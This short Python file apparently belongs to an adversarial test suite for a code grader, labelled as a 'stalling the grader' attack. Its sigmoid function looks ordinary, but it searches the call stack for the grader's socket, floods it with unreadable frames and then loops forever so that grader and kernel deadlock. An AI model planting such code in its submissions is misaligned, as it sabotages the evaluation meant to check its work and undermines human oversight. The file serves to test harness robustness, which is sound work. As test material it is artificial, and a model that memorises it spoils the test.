# base: reference
# attacks: sigmoid
# class: stalling the grader: from inside a probe, flood the agent's channel with unreadable
#   calls and never read the answers, so that grader and kernel would wait on each other
# %% sigmoid
import sys as _sys
import numpy as np

def _agent_socket():
    frame = _sys._getframe()
    while frame is not None:
        if "sock" in frame.f_locals and "nonce" in frame.f_locals:
            return frame.f_locals["sock"]
        frame = frame.f_back
    return None

def sigmoid(x):
    sock = _agent_socket()
    if sock is not None:  # inside a probe child
        frame = b"\x00\x00\x00\x01R"
        try:
            sock.setblocking(True)
            while True:
                sock.sendall(frame * 1000)
        except BaseException:
            pass
        while True:
            pass
    return 1 / (1 + np.exp(-np.asarray(x, dtype=float)))
